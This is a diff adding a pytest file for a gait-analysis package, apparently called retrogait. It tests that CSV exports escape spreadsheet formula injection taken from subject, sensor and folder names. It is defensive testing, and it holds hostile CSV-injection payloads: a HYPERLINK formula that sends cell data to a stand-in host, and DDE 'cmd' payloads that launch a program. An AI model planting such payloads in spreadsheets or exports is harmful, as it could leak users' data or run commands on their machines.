@@ -1,0 +1,94 @@
+"""Text from headers and folder names cannot reach a spreadsheet as a formula (issue 12 item 15)."""
+
+from __future__ import annotations
+
+import csv
+import math
+from dataclasses import replace
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+
+from retrogait.batch import run_batch
+from retrogait.csvsafe import FORMULA_STARTS, safe_cell, safe_frame, write_csv
+from retrogait.session import write_session
+from retrogait.simulate import Bout, SimulationConfig, simulate
+
+HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-0.24", "-0.24"),  # a number written as text is not a formula
+        ("+1e5", "+1e5"),
+        ("Polar H10", "Polar H10"),
+        ("a=b", "a=b"),
+        ("'=1", "'=1"),  # already neutral
+        ("", ""),
+    ],
+)
+def test_cells(cell: str, expected: str) -> None:
+    assert safe_cell(cell) == expected
+    assert safe_cell(safe_cell(cell)) == expected
+
+
+def test_numbers_stay_numbers(tmp_path: Path) -> None:
+    frame = pd.DataFrame(
+        {"impact_peak_g": [-0.24, 3.5, math.nan], "n": [1, -2, 3], "subject": ["=1", None, "-7"], "=col": [1, 2, 3]}
+    )
+    safe = safe_frame(frame)
+    pd.testing.assert_series_equal(safe["impact_peak_g"], frame["impact_peak_g"])
+    pd.testing.assert_series_equal(safe["n"], frame["n"])
+    assert safe["subject"].iloc[0] == "'=1" and pd.isna(safe["subject"].iloc[1]) and safe["subject"].iloc[2] == "-7"
+    assert list(safe.columns)[-1] == "'=col"
+    assert frame["subject"].iloc[0] == "=1"  # the caller's frame is not changed
+    back = pd.read_csv(write_csv(frame, tmp_path / "t.csv"))
+    assert back["impact_peak_g"].iloc[0] == -0.24 and back["n"].iloc[1] == -2
+
+
+def _cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as fh:
+        return [cell for row in csv.reader(fh) for cell in row]
+
+
+def _is_formula(cell: str) -> bool:
+    return cell.startswith(FORMULA_STARTS) and safe_cell(cell) != cell
+
+
+@pytest.mark.parametrize("steps_format", [".parquet", ".csv"])
+def test_batch_tables_hold_no_formula(steps_format: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    for module in ("retrogait.batch.worker", "retrogait.batch.store"):
+        monkeypatch.setattr(f"{module}.steps_suffix", lambda: steps_format)
+    root = tmp_path / "squad"
+    for i, direction in enumerate(("forward", "backward")):
+        config = SimulationConfig(
+            "shank", [Bout("still", "still", 0.0, 2.0), Bout(direction, "running", 3.0, 10.0)], 200.0
+        )
+        session = simulate(config).session
+        session = replace(session, meta=replace(session.meta, subject=HOSTILE[i], sensor=HOSTILE[2]))
+        write_session(session, root / f"run{i}.csv")
+    folder_named = root / "=1+2"  # subject taken from the folder name when the header names none
+    session = simulate(SimulationConfig("shank", [Bout("forward", "running", 3.0, 6.0)], 200.0)).session
+    write_session(replace(session, meta=replace(session.meta, sensor=HOSTILE[2])), folder_named / "x.csv")
+    (root / "=broken.csv").write_text("# retrogait-session: 1\n# placement: shank\nnot,a,table\n")
+
+    result = run_batch([root], tmp_path / "out", jobs=1)
+    sessions = pd.read_csv(result.sessions_path)
+    assert sorted(sessions["subject"]) == sorted(["'" + HOSTILE[0], "'" + HOSTILE[1], "'=1+2"])
+    assert set(sessions["sensor"].dropna()) == {"'" + HOSTILE[2]}
+    assert np.issubdtype(sessions["n_steps"].dtype, np.integer)
+    written = [result.sessions_path, result.errors_path, *(tmp_path / "out" / "cohort").rglob("*.csv")]
+    if steps_format == ".csv":
+        written += [result.steps_path, *(tmp_path / "out" / "sessions").glob("*.csv")]
+    for path in written:
+        assert not [c for c in _cells(path) if _is_formula(c)], path
+    assert result.n_failed == 1 and not any("not compared" in line for line in result.cohort), result.cohort
